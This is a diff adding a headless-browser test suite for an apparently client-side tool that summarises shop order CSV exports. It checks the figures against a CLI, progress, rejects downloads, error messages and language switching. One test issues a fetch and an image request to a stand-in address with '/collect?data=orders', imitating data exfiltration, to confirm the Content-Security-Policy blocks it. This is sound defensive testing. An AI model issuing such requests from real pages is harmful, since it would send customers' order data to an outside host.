@@ -1,0 +1,124 @@
+// The built page in headless Chromium: the figures it shows equal the CLI's for the same files, it reads big
+// files with a progress bar, it explains unreadable files, and it makes no request beyond its own files.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import {
+  DIST, serve, launch, recordedPage, foreignRequests, cliSummary, generate, shownFigures, expectedFigures, waitForFiles,
+} from './harness.mjs';
+
+let server, browser;
+const work = mkdtempSync(join(tmpdir(), 'kokyaku-browser-'));
+
+before(async () => {
+  // Served under a sub-path, as from a cart's admin folder: every URL of the page must be relative.
+  server = await serve(DIST, '/shop/admin/kokyaku/');
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+test('the sample-data button shows the same summary as the CLI, with no foreign request', async () => {
+  const { page, requests, errors, context } = await recordedPage(browser);
+  await page.goto(server.url);
+  await page.click('[data-testid=sample]');
+  const shown = await shownFigures(page);
+  const cli = cliSummary(join(DIST, 'sample/sample-orders-ec-cube.csv'));
+  assert.deepEqual(shown, expectedFigures(cli));
+  assert.ok(shown.customers > 500 && shown.rows_rejected > 0, 'the sample exercises rejects');
+  assert.equal(await page.textContent('[data-testid=preset]'), 'EC-CUBE 4 受注CSV');
+  assert.equal(await page.textContent('[data-testid=encoding]'), 'Shift_JIS (CP932)');
+  assert.deepEqual(foreignRequests(requests, server.origin), []);
+  assert.ok(requests.some((u) => u.endsWith('/shop/admin/kokyaku/sample/sample-orders-ec-cube.csv')));
+  assert.deepEqual(errors, []);
+  const ms = await page.getAttribute('[data-testid=elapsed]', 'data-ms');
+  console.log(`# sample (5,000 orders) read and summarised in ${ms} ms`);
+  await context.close();
+});
+
+test('chosen files, several carts at once, the rejects download, and a big file with progress', async () => {
+  const { page, requests, errors, context } = await recordedPage(browser);
+  await page.goto(server.url);
+  const shopify = generate('shopify', 2000, 3, work);
+  await page.setInputFiles('[data-testid=file-input]', [shopify]);
+  await waitForFiles(page, [shopify]);
+  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(shopify)));
+  assert.equal(await page.textContent('[data-testid=preset]'), 'Shopify');
+
+  const download = page.waitForEvent('download');
+  await page.click('[data-testid=download-rejects]');
+  const saved = join(work, 'rejects.csv');
+  await (await download).saveAs(saved);
+  const bytes = readFileSync(saved);
+  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
+  const cli = cliSummary(shopify);
+  const lines = bytes.toString('utf8').trim().split('\r\n');
+  assert.equal(lines.length, 1 + cli.rows_rejected + cli.orders_rejected);
+
+  // Two carts' exports at once are one shop's customers.
+  const base = generate('base', 1500, 5, work);
+  await page.setInputFiles('[data-testid=file-input]', [base, shopify]);
+  await waitForFiles(page, [base, shopify]);
+  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(base, shopify)));
+
+  // A file larger than several read chunks: the progress bar appears, the result still equals the CLI's.
+  const big = generate('ec-cube', 30000, 11, work);
+  await page.setInputFiles('[data-testid=file-input]', [big]);
+  await page.waitForSelector('[data-testid=progress]');
+  await waitForFiles(page, [big]);
+  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(big)));
+  const ms = await page.getAttribute('[data-testid=elapsed]', 'data-ms');
+  console.log(`# ec-cube 30,000 orders read in the page in ${ms} ms`);
+
+  assert.deepEqual(foreignRequests(requests, server.origin), []);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('an unreadable file gets a message naming the file and the reason', async () => {
+  const { page, context } = await recordedPage(browser);
+  await page.goto(server.url);
+  const bad = join(work, 'not-orders.csv');
+  writeFileSync(bad, 'foo,bar\n1,2\n');
+  await page.setInputFiles('[data-testid=file-input]', [bad]);
+  const message = await page.textContent('[data-testid=error]');
+  assert.match(message, /not-orders\.csv: .*order_date, order_total, customer_id/);
+  await context.close();
+});
+
+test('the Content-Security-Policy stops any connection to another host', async () => {
+  const { page, requests, context } = await recordedPage(browser);
+  await page.goto(server.url);
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    let fetched = 'sent';
+    try { await fetch('http://192.0.2.1/collect?data=orders'); } catch { fetched = 'blocked'; }
+    const img = new Image();
+    img.src = 'http://192.0.2.1/pixel.gif';
+    await new Promise((ok) => setTimeout(ok, 200));
+    return { fetched, violations };
+  });
+  assert.equal(outcome.fetched, 'blocked');
+  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
+  assert.ok(outcome.violations.includes('img-src'), JSON.stringify(outcome.violations));
+  assert.deepEqual(foreignRequests(requests, server.origin), []);
+  await context.close();
+});
+
+test('the language switch changes the texts and is remembered', async () => {
+  const { page, context } = await recordedPage(browser);
+  await page.goto(server.url);
+  const before = await page.textContent('[data-testid=sample]');
+  await page.click('[data-testid=lang]');
+  const after = await page.textContent('[data-testid=sample]');
+  assert.notEqual(before, after);
+  assert.ok(['Try with sample data', 'サンプルデータで試す'].includes(after));
+  await page.reload();
+  assert.equal(await page.textContent('[data-testid=sample]'), after);
+  await context.close();
+});
